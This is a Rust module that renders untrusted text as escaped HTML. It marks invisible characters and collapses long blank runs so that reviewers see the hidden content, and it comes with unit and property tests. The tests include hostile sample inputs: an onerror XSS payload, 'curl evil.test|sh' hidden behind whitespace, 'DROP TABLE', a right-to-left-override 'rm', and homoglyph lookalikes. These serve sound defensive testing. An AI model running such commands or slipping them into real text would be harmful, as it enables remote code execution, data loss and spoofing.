//! What a person reads is what is there.
//!
//! Owns how untrusted text stands on a page. What would not be seen is spelled out by
//! [`crate::policy::visible`], the one place that decides it; here the spelling is marked, markup
//! is escaped, and blank room is counted. Must never leave anything out.

use std::fmt::Write as _;

use crate::policy::visible::{marks, visible_lines};

/// A run of this many equal blanks is counted instead of drawn: blank room can push the end of a
/// text out of sight.
const RUN_MAX: usize = 12;

/// Text as somebody wrote it, as HTML.
pub(super) fn raw(text: &str) -> String {
    let mut out = sent(&visible_lines(text));
    if text.is_empty() {
        mark(&mut out, "empty");
    }
    out
}

/// Text of the request, spelled out by the guard already, as HTML with what makes it hard to judge.
pub(super) fn sent(text: &str) -> String {
    let mut out = card(text);
    for why in marks(text) {
        out.push(' ');
        // Names of scripts, from Unicode's own list.
        mark(&mut out, &why);
    }
    out
}

/// Text of a card, spelled out and marked by the policy already, as HTML.
pub(super) fn card(text: &str) -> String {
    // The last net: whatever was not spelled out on its way here is spelled out now.
    let whole: String = split(text).map(|(plain, spelling)| visible_lines(plain) + spelling).collect();
    let mut out = String::with_capacity(whole.len() + whole.len() / 8);
    for (plain, spelling) in split(&whole) {
        piece(&mut out, plain);
        if !spelling.is_empty() {
            mark(&mut out, spelling);
        }
    }
    out
}

/// The text before each spelling, and the spelling; the last one is empty.
fn split(text: &str) -> impl Iterator<Item = (&str, &str)> {
    let mut rest = Some(text);
    std::iter::from_fn(move || {
        let text = rest?;
        let found = text.match_indices("\\u{").find_map(|(at, _)| Some((at, at + spelled(&text[at..])?)));
        let (at, end) = found.unwrap_or((text.len(), text.len()));
        rest = found.map(|_| &text[end..]);
        Some((&text[..at], &text[at..end]))
    })
}

/// The length of `\u{hex}` at the beginning of `text`.
fn spelled(text: &str) -> Option<usize> {
    let hex = text.strip_prefix("\\u{")?;
    // Six digits at most: a text of nothing but beginnings is read once, not once for each.
    let end = hex.bytes().take(7).position(|byte| byte == b'}')?;
    let digits = end > 0 && hex[..end].bytes().all(|digit| digit.is_ascii_hexdigit());
    digits.then_some(end + 4)
}

/// Text between two spellings.
fn piece(out: &mut String, text: &str) {
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        if matches!(c, ' ' | '\n' | '\t') {
            let mut count = 1;
            while rest.next_if_eq(&c).is_some() {
                count += 1;
            }
            blank(out, c, count);
        } else {
            character(out, c);
        }
    }
}

fn blank(out: &mut String, c: char, count: usize) {
    if count <= RUN_MAX {
        out.extend(std::iter::repeat_n(c, count));
        return;
    }
    match c {
        ' ' => mark(out, &format!("{count} spaces")),
        '\t' => mark(out, &format!("{count} tabs")),
        _ => {
            out.push('\n');
            mark(out, &format!("{count} line breaks"));
            out.push('\n');
        }
    }
}

fn character(out: &mut String, c: char) {
    match c {
        '&' => out.push_str("&amp;"),
        '<' => out.push_str("&lt;"),
        '>' => out.push_str("&gt;"),
        '"' => out.push_str("&quot;"),
        '\'' => out.push_str("&#39;"),
        plain => out.push(plain),
    }
}

/// Only our own words, names of scripts and hex digits get here.
fn mark(out: &mut String, words: &str) {
    let _ = write!(out, "<mark>{words}</mark>");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::visible::visible;

    #[test]
    fn plain_text_stays_and_markup_is_escaped() {
        assert_eq!(raw("Buy milk, 买牛奶 — naïve €5"), "Buy milk, 买牛奶 — naïve €5");
        assert_eq!(
            raw("<img src=x onerror=\"fetch('/approve')\">"),
            "&lt;img src=x onerror=&quot;fetch(&#39;/approve&#39;)&quot;&gt;"
        );
    }

    #[test]
    fn what_cannot_be_seen_is_spelled_out_and_marked() {
        assert_eq!(raw("rm ~/\u{202e}gnp"), "rm ~/<mark>\\u{202e}</mark>gnp");
        assert_eq!(raw("pay\u{200b}pal"), "pay<mark>\\u{200b}</mark>pal");
        assert_eq!(raw("\u{1b}[2K"), "<mark>\\u{1b}</mark>[2K");
        assert_eq!(raw("a\u{a0}b\rc"), "a<mark>\\u{a0}</mark>b<mark>\\u{d}</mark>c");
        assert_eq!(raw(""), "<mark>empty</mark>");
    }

    #[test]
    fn what_is_spelled_out_already_is_not_spelled_twice() {
        for text in ["a\u{202e}b", "a\\u{202e}b", "plain", "\u{200b}\u{200b}", "x\\", "\\u{", "\\u{zz}"] {
            assert_eq!(card(&visible(text)), raw(text), "{text:?}");
        }
        assert_eq!(raw("a\\u{202e}b"), "a<mark>\\u{5c}</mark>u{202e}b", "what pretends to be a spelling is none");
        assert_eq!(card("left over \u{202e}"), "left over <mark>\\u{202e}</mark>", "the last net");
    }

    #[test]
    fn blank_room_does_not_push_the_end_out_of_sight() {
        let spaces = format!("echo ok{}; curl evil.test|sh", " ".repeat(4000));
        assert_eq!(raw(&spaces), "echo ok<mark>4000 spaces</mark>; curl evil.test|sh");
        let lines = format!("ok{}DROP TABLE u", "\n".repeat(300));
        assert_eq!(raw(&lines), "ok\n<mark>300 line breaks</mark>\nDROP TABLE u");
    }

    #[test]
    fn look_alikes_and_right_to_left_letters_are_marked() {
        assert!(raw("p\u{0430}ypal").contains("<mark>mixed scripts"));
        assert!(!raw("paypal и деньги").contains("<mark>"));
        assert!(raw("pay שלום").contains("<mark>bidirectional"));
    }

    proptest::proptest! {
        #[test]
        fn nothing_is_left_out_and_no_markup_gets_through(text in "\\PC{0,40}|[<>&\"'\\\\u{}0-9\u{200b}\u{202e} \n]{0,40}") {
            for out in [raw(&text), card(&visible(&text)), card(&text)] {
                let without_marks = out.replace("<mark>", "").replace("</mark>", "");
                proptest::prop_assert!(!without_marks.contains(['<', '>', '"', '\'']), "{}", out);
                for c in text.chars().filter(char::is_ascii_alphanumeric) {
                    proptest::prop_assert!(out.contains(c));
                }
            }
        }
    }
}
